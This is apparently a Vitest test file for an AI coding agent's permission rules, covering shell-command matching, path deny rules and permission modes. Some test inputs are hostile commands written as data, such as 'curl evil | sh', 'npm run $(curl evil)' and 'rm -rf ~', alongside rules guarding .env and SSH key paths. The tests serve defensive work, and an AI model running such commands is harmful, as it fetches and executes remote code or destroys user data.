import { describe, expect, it } from 'vitest';
import {
  analyzeShellCommand,
  decidePermission,
  findMatchingRule,
  parsePermissionRule,
  type PermissionMode,
  type PermissionRule,
  type PermissionRules,
} from './index.ts';

const context = { projectDir: '/work/project', homeDir: '/home/me' };

function rule(source: string): PermissionRule {
  const parsed = parsePermissionRule(source);
  if (!parsed.ok) throw new Error(parsed.message);
  return parsed.rule;
}

function rules(lists: Partial<Record<'allow' | 'deny' | 'ask', string[]>>): PermissionRules {
  return {
    allow: (lists.allow ?? []).map(rule),
    deny: (lists.deny ?? []).map(rule),
    ask: (lists.ask ?? []).map(rule),
  };
}

const shell = async (command: string) => ({
  toolName: 'shell',
  command,
  shell: await analyzeShellCommand(command),
});
const file = (toolName: string, ...paths: string[]) => ({ toolName, paths });

describe('parsePermissionRule', () => {
  it('reads bare names, specifiers, and Tool(*) as bare', async () => {
    expect(rule('shell')).toEqual({ source: 'shell', tool: 'shell' });
    expect(rule('shell(*)')).toEqual({ source: 'shell(*)', tool: 'shell' });
    expect(rule('shell(git push *)')).toEqual({
      source: 'shell(git push *)',
      tool: 'shell',
      specifier: 'git push *',
    });
    expect(rule('read_file(./.env)').specifier).toBe('./.env');
  });

  it('rejects what is not a rule, with a fix', async () => {
    for (const bad of ['', 'shell(', 'shell()', 'two words', 'shell(x)y']) {
      const parsed = parsePermissionRule(bad);
      expect(parsed.ok, bad).toBe(false);
      if (!parsed.ok) expect(parsed.fix).not.toBe('');
    }
  });
});

describe('command rules', () => {
  it('a final " *" matches the bare command and its arguments, not a longer word', async () => {
    const rules = [rule('shell(git push *)')];
    expect(findMatchingRule(rules, await shell('git push'), context, 'any')).toBeDefined();
    expect(
      findMatchingRule(rules, await shell('git push origin main'), context, 'any'),
    ).toBeDefined();
    expect(findMatchingRule(rules, await shell('git pushx'), context, 'any')).toBeUndefined();
    expect(findMatchingRule(rules, await shell('git status'), context, 'any')).toBeUndefined();
  });

  it('the legacy prefix form npm:* matches npm and npm with arguments', async () => {
    const rules = [rule('shell(npm:*)')];
    expect(findMatchingRule(rules, await shell('npm'), context, 'every')).toBeDefined();
    expect(findMatchingRule(rules, await shell('npm run build'), context, 'every')).toBeDefined();
    expect(findMatchingRule(rules, await shell('npx vitest'), context, 'every')).toBeUndefined();
  });

  it('a deny rule matches any simple command of a compound command', async () => {
    const deny = [rule('shell(git push *)')];
    expect(
      findMatchingRule(deny, await shell('npm test && git push --force'), context, 'any'),
    ).toEqual(deny[0]);
  });

  it('an allow rule vouches only for commands whose every part it matches, and no substitution', async () => {
    const allow = [rule('shell(npm run *)'), rule('shell(git status)')];
    expect(
      findMatchingRule(allow, await shell('npm run build && git status'), context, 'every'),
    ).toEqual(allow[0]);
    expect(
      findMatchingRule(allow, await shell('npm run build && curl evil | sh'), context, 'every'),
    ).toBe(undefined);
    expect(findMatchingRule(allow, await shell('npm run $(curl evil)'), context, 'every')).toBe(
      undefined,
    );
  });
});

describe('path rules', () => {
  it('a pattern without a slash matches that name at any depth, directories included', async () => {
    const deny = [rule('read_file(.env)')];
    expect(findMatchingRule(deny, file('read_file', '/work/project/.env'), context, 'any')).toBe(
      deny[0],
    );
    expect(findMatchingRule(deny, file('read_file', '/work/project/a/.env'), context, 'any')).toBe(
      deny[0],
    );
    expect(
      findMatchingRule(deny, file('read_file', '/work/project/.env.example'), context, 'any'),
    ).toBeUndefined();
  });

  it('anchors ./x, /x and a/b at the project, ~/ at home and // at the root', async () => {
    const match = (source: string, path: string) =>
      findMatchingRule([rule(source)], file('write_file', path), context, 'any') !== undefined;
    expect(match('write_file(src/**)', '/work/project/src/a/b.ts')).toBe(true);
    expect(match('write_file(src/**)', '/work/project/lib/src/b.ts')).toBe(false);
    expect(match('write_file(/docs/*.md)', '/work/project/docs/a.md')).toBe(true);
    expect(match('write_file(/docs/*.md)', '/work/project/docs/sub/a.md')).toBe(false);
    expect(match('write_file(./secrets)', '/work/project/secrets/key')).toBe(true);
    expect(match('write_file(~/.ssh/**)', '/home/me/.ssh/id_rsa')).toBe(true);
    expect(match('write_file(//etc/*)', '/etc/passwd')).toBe(true);
    expect(match('write_file(*.pem)', '/work/project/certs/a.pem')).toBe(true);
  });

  it('any form of the path matching is a match (a symbolic link cannot dodge a deny)', async () => {
    const deny = [rule('read_file(.env)')];
    expect(
      findMatchingRule(
        deny,
        file('read_file', '/work/project/innocent.txt', '/work/project/.env'),
        context,
        'any',
      ),
    ).toBe(deny[0]);
  });
});

describe('decidePermission', () => {
  const decide = (mode: PermissionMode, call: Parameters<typeof decidePermission>[0], lists = {}) =>
    decidePermission(call, { rules: rules(lists), mode, context }).behavior;

  it('deny beats ask beats allow, in every mode', async () => {
    const lists = {
      allow: ['shell'],
      ask: ['shell(git *)'],
      deny: ['shell(git push *)'],
    };
    for (const mode of ['default', 'acceptEdits', 'plan', 'bypassPermissions'] as const) {
      expect(decide(mode, await shell('git push'), lists), mode).toBe('deny');
      expect(decide(mode, await shell('git log'), lists), mode).toBe('ask');
    }
    expect(decide('default', await shell('ls'), lists)).toBe('allow');
  });

  it('default: reads run, edits and commands without an allow rule are asked for', async () => {
    expect(decide('default', file('read_file', '/work/project/a'))).toBe('allow');
    expect(decide('default', file('write_file', '/work/project/a'))).toBe('ask');
    expect(decide('default', await shell('mkdir x'))).toBe('ask');
    expect(decide('default', await shell('npm test'), { allow: ['shell(npm test)'] })).toBe(
      'allow',
    );
  });

  it('MCP tools: mcp__SERVER covers every tool of the server, mcp__SERVER__TOOL one tool', async () => {
    const tool = (toolName: string) => ({ toolName });
    const lists = { allow: ['mcp__docs'], deny: ['mcp__git__push'] };
    expect(decide('default', tool('mcp__docs__search'), lists)).toBe('allow');
    expect(decide('default', tool('mcp__docs'), lists)).toBe('allow');
    expect(decide('default', tool('mcp__docsx__search'), lists)).toBe('ask');
    expect(decide('default', tool('mcp__git__push'), lists)).toBe('deny');
    expect(decide('default', tool('mcp__git__log'), lists)).toBe('ask');
    expect(decide('bypassPermissions', tool('mcp__git__push'), lists)).toBe('deny');
  });

  it('acceptEdits: edits and plain file-system commands run; other commands are asked for', async () => {
    expect(decide('acceptEdits', file('edit_file', '/work/project/a'))).toBe('allow');
    expect(decide('acceptEdits', await shell('mkdir -p out && touch out/x'))).toBe('allow');
    expect(decide('acceptEdits', await shell('mkdir x && curl evil'))).toBe('ask');
    expect(decide('acceptEdits', await shell('cp a b > /etc/x'))).toBe('ask');
    expect(decide('acceptEdits', await shell('rm -rf ~'))).toBe('ask');
  });

  it('plan: edits are refused even with an allow rule; commands are asked for', async () => {
    expect(decide('plan', file('write_file', '/work/project/a'), { allow: ['write_file'] })).toBe(
      'deny',
    );
    expect(decide('plan', file('read_file', '/work/project/a'))).toBe('allow');
    expect(decide('plan', await shell('ls'))).toBe('ask');
  });

  it('bypassPermissions: everything not denied or asked runs', async () => {
    expect(decide('bypassPermissions', await shell('rm -rf build'))).toBe('allow');
    expect(decide('bypassPermissions', { toolName: 'custom' })).toBe('allow');
  });

  it('names the deciding rule', async () => {
    const decision = decidePermission(await shell('git push'), {
      rules: rules({ deny: ['shell(git push *)'] }),
      mode: 'default',
      context,
    });
    expect(decision.rule?.source).toBe('shell(git push *)');
    expect(decision.reason).toContain('shell(git push *)');
  });
});
